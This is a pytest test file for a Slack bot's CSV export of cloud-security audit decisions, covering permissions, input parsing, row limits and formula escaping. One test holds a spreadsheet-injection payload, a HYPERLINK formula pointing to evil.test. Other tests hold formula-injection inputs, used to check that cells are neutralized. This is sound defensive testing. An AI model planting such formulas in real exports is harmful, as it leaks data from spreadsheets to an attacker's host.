"""The record as a file: for those who may decide, in their direct conversation."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import fields
from urllib.parse import urlencode

import pytest

from bot.domain.errors import BadInput
from bot.domain.ports import Put
from bot.flows.interactions import audit_export
from bot.messages import SendAuditExport
from bot.slack.ids import CallbackId
from bot.store import audit_text
from bot.store.audit import Entry
from handlers import slack
from tests.builders_slack import Context, command, http_event
from tests.flows.interactions.test_lookups import fixed
from tests.flows.stage import Stage, a_finding, deliver

pytestmark = pytest.mark.usefixtures("s3")


def ask(stage: Stage, text: str, user: str = "U0DANA") -> str:
    answered = slack.handler(http_event(urlencode(command(text, user)), stage.clock.wall()), Context(), stage.world)
    for message in stage.answered(SendAuditExport):
        deliver(message, stage.world)
    return str(json.loads(answered["body"])["text"])


def the_file(stage: Stage) -> list[dict[str, str]]:
    (message,) = stage.slack.messages["D0DANA"]
    (file,) = message["files"]
    content = stage.slack.files[file["id"]]["content"].decode()
    return list(csv.DictReader(io.StringIO(content)))


def test_the_file_says_who_decided_and_changed_what_by_which_right(stage: Stage) -> None:
    assert "comes in a moment" in ask(fixed(stage), "audit 1")
    rows = the_file(stage)
    (approved,) = [row for row in rows if row["what"] == "approve"]
    assert (approved["who"], approved["before"], approved["after"]) == ("U0DANA", "proposed", "approved")
    assert (approved["policy"], approved["right"]) == ("v1", "routes[0]: group S0SECENG")
    assert approved["changes"].startswith("public access block: absent → ")
    (written,) = [row for row in rows if row["what"] == "fix written"]
    assert "s3:PutPublicAccessBlock" in written["calls"].splitlines()
    assert [row["at"] for row in rows] == sorted(row["at"] for row in rows)


@pytest.mark.parametrize("user", ["U0LEE", "U0GUEST"])
def test_who_may_decide_nowhere_gets_none(stage: Stage, user: str) -> None:
    said = ask(fixed(stage), "audit", user)
    assert "for people who may approve" in said or "Guests and bots" in said
    assert stage.answered(SendAuditExport) == []


def test_another_accounts_entries_are_left_out(stage: Stage) -> None:
    ask(fixed(stage), "audit 444455556666 3")
    assert the_file(stage) == []


@pytest.mark.parametrize("text", ["0", "32", "7 8", "soon", "111122223333 444455556666", "7 -1"])
def test_a_question_that_cannot_be_answered_is_told_how_to_ask(text: str) -> None:
    with pytest.raises(BadInput, match="say /cspm audit"):
        audit_export.parse(text.split())


@pytest.mark.slow
def test_the_number_of_rows_is_bounded_and_that_is_said(stage: Stage) -> None:
    fixed(stage)
    for number in range(audit_export.MAX_ROWS):
        item = {"pk": "AUDIT#2026-09-22", "sk": f"2026-09-22T09:30:00.000Z#{number:06}", "at": "2026-09-22T09:30"}
        stage.table.write([Put(item)])
    stage.clock.advance(seconds=7200)
    ask(stage, "audit")
    (message,) = stage.slack.messages["D0DANA"]
    assert "there are more" in message["text"]
    assert len(the_file(stage)) == audit_export.MAX_ROWS


def test_no_cell_is_a_formula(stage: Stage) -> None:
    stage.tell(a_finding())
    stage.pump()
    evil = '=HYPERLINK("https://evil.test?"&A1)'
    stage.submit(CallbackId.DENY, manifest=stage.case.manifest, reason=evil)
    stage.pump()
    ask(stage, "audit")
    cells = [cell for row in the_file(stage) for cell in row.values()]
    assert f"'{evil}" in cells
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1"])
def test_what_a_spreadsheet_would_calculate_has_an_apostrophe(cell: str) -> None:
    assert audit_text.safe(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "fixed", "2026-09-22T09:00:00.000Z#x", "arn:aws:s3:::a=b"])
def test_anything_else_stays_as_it_is(cell: str) -> None:
    assert audit_text.safe(cell) == cell


def test_the_table_has_every_field_of_an_entry() -> None:
    assert {field.name for field in fields(Entry)} - {"identity"} == set(audit_text.COLUMNS) - {"id"}
